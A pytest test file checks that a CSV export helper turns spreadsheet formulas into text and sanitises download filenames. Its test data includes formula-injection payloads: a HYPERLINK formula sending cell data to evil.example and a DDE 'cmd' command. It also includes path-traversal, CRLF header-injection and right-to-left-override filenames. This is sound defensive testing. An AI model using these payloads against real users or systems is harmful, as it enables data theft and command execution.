import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.core.spreadsheets import safe_cell, stream_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "+44 7700 900123",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "=1+1\n=2+2",
    '="";=1',
    "=",
]


def _read(response):
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:], newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_text(formula):
    assert safe_cell(formula) == f"'{formula}"


@pytest.mark.parametrize("value", [0, -5, 3.25, -0.5, Decimal("-12.50")])
def test_real_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("Falls = fewer", "Falls = fewer"),
        ("'=1+1", "'=1+1"),
        (True, "True"),
        (date(2025, 3, 30), "2025-03-30"),
    ],
)
def test_other_values_become_their_text(value, cell):
    assert safe_cell(value) == cell


def test_an_object_whose_text_is_a_formula_becomes_text():
    class Person:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Person()) == "'=1+1"


@given(st.text())
def test_no_text_comes_out_as_a_formula(text):
    assert not str(safe_cell(text)).lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_csv_reads_back_with_formulas_neutralised():
    rows = [[formula, -5, None, "Zoë, “ward 7”"] for formula in FORMULAS]

    answer = _read(stream_csv("people.csv", ["=Name", "Change", "Left", "Note"], rows))

    assert answer[0] == ["'=Name", "Change", "Left", "Note"]
    assert answer[1:] == [[f"'{formula}", "-5", "", "Zoë, “ward 7”"] for formula in FORMULAS]


def test_rows_are_read_only_as_they_are_sent():
    read = []

    def rows():
        for number in range(3):
            read.append(number)
            yield [number]

    chunks = iter(stream_csv("x", ["n"], rows()).streaming_content)

    assert (next(chunks), list(read)) == ("\ufeffn\r\n".encode(), [])
    assert (next(chunks), list(read)) == (b"0\r\n", [0])
    assert (next(chunks), list(read)) == (b"1\r\n", [0, 1])


def test_half_a_surrogate_pair_does_not_break_the_download():
    assert _read(stream_csv("x", ["n"], [["a\ud83d"]])) == [["n"], ["a?"]]


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("sign-ups.csv", 'attachment; filename="sign-ups.csv"'),
        ("sign-ups", 'attachment; filename="sign-ups.csv"'),
        ("Sign-ups.CSV", 'attachment; filename="Sign-ups.csv"'),
        ("../../etc/passwd", 'attachment; filename="etc-passwd.csv"'),
        ('a"; filename="b.exe', 'attachment; filename="a-; filename=-b.exe.csv"'),
        ("a\r\nSet-Cookie: x=1", 'attachment; filename="a-Set-Cookie- x=1.csv"'),
        ("evil\u202egpj.csv", 'attachment; filename="evil-gpj.csv"'),
        ("Café.csv", "attachment; filename*=utf-8''Caf%C3%A9.csv"),
        ("", 'attachment; filename="export.csv"'),
        (".csv", 'attachment; filename="csv.csv"'),
        ("x" * 300, f'attachment; filename="{"x" * 100}.csv"'),
    ],
)
def test_the_file_is_an_attachment_with_a_safe_name(filename, header):
    assert stream_csv(filename, [], [])["Content-Disposition"] == header


def test_the_answer_is_utf8_csv_that_no_cache_keeps():
    response = stream_csv("x", ["n"], [])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
